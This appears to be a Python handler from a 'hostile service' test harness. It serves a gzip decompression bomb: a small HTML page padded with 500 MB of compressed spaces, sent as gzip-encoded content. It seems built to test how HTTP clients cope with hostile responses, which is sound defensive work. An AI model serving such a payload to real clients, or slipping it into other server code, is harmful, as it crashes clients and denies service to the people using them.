"""A small packed answer that unpacks to half a gigabyte.

Ends: wrong-page?
"""

import zlib
from functools import cache

from hostile_service import HEAD, Wire


def answer(wire: Wire) -> None:
    wire.send(_packed(), content_encoding="gzip")


@cache
def _packed() -> bytes:
    page = HEAD.format(title="Bomb") + "<body><h1>Bomb</h1><p>Small, at first.</p><!--"
    packer = zlib.compressobj(9, wbits=31)
    zeros = b" " * 1_000_000
    parts = [packer.compress(page.encode()), *(packer.compress(zeros) for _ in range(500)), packer.flush()]
    return b"".join(parts)
